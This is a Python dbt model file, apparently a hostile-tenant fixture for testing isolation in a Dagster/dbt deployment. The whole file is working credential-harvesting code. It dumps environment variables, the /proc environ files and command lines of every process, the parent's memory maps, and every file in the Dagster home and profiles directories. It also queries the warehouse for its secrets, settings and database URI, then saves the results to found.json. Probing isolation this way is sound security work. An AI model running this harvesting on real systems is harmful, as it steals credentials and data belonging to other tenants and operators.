"""Reads whatever a process of dbt can reach, and keeps it in the target directory."""

import json
import os
import pathlib

PROC = pathlib.Path("/proc")


def read(path):
    try:
        return pathlib.Path(path).read_bytes().decode("latin-1")
    except OSError as error:
        return type(error).__name__


def by_warehouse(session, statement):
    try:
        return str(session.sql(statement).fetchall())
    except Exception as error:  # noqa: BLE001
        return type(error).__name__


def model(dbt, session):
    dbt.config(materialized="table")
    target = pathlib.Path(os.environ["DBT_TARGET_PATH"])
    home = target.parents[3]  # DAGSTER_HOME/tenants/hostile/runs/<run>
    profiles = pathlib.Path(os.environ["DBT_PROFILES_DIR"]).parent
    files = [it for root in (home, profiles) for it in root.rglob("*") if it.is_file()]
    found = {
        "id": os.getpid(),
        "variables": dict(os.environ),
        "own process": read("/proc/self/environ"),
        "parent": read(f"/proc/{os.getppid()}/environ"),
        "parent's memory": read(f"/proc/{os.getppid()}/maps"),
        "processes": {str(it): read(it) for it in PROC.glob("[0-9]*/environ")},
        "command lines": {str(it): read(it) for it in PROC.glob("[0-9]*/cmdline")},
        "files": {str(it): read(it) for it in files},
        "getenv of the warehouse": by_warehouse(session, "select getenv('DAGSTER_PG_URI')"),
        "parent by the warehouse": by_warehouse(
            session, f"select content from read_text('/proc/{os.getppid()}/environ')"
        ),
        "settings of the warehouse": by_warehouse(
            session, "select name, value from duckdb_settings()"
        ),
        "secrets of the warehouse": by_warehouse(session, "from duckdb_secrets()"),
    }
    (target / "found.json").write_text(json.dumps(found))
    return session.sql("select 1 as n")
